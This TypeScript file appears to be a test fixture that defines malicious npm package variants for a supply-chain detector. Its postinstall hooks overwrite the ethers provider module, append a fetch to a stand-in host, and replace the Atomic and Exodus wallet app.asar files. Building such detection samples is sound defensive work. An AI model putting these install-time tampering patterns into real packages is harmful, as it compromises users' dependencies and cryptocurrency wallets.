import { type Campaign, entry, scripted, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'process-injection',
  row: 'capability: patching of other packages and programs (ethers-provider2, atomic wallet 2025)',
  variants: [
    {
      concealment: 'plain',
      files: scripted(
        { postinstall: 'node install.js' },
        {
          'install.js': `const fs = require('fs'), path = require('path');
const target = path.join(process.env.INIT_CWD, 'node_modules', 'ethers', 'lib.esm', 'providers', 'provider-jsonrpc.js');
if (fs.existsSync(target)) fs.writeFileSync(target, fs.readFileSync(path.join(__dirname, 'patch.js')));
`,
          'patch.js': 'export default 1;\n',
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { postinstall: 'node install.js' },
        {
          'install.js': tabled(
            'plain',
            (h) => `const fs = require(${h('fs')});
const t = require[${h('resolve')}](${h('ethers')});
fs[${h('appendFileSync')}](t, ${h("\nfetch('https://drop.weir.test')")});
`,
          ),
        },
      ),
    },
    {
      concealment: 'moved',
      files: entry(`require('./lib/pdf');\nmodule.exports = {};\n`, {
        'lib/pdf.js': `const fs = require('fs'), path = require('path');
const home = process.env.LOCALAPPDATA || '';
for (const app of ['atomic', 'exodus']) {
  const asar = path.join(home, 'Programs', app, 'resources', 'app.asar');
  if (fs.existsSync(asar)) fs.writeFileSync(asar, fs.readFileSync(path.join(__dirname, 'a.asar')));
}
`,
        'lib/a.asar': new Uint8Array(16),
      }),
    },
  ],
};
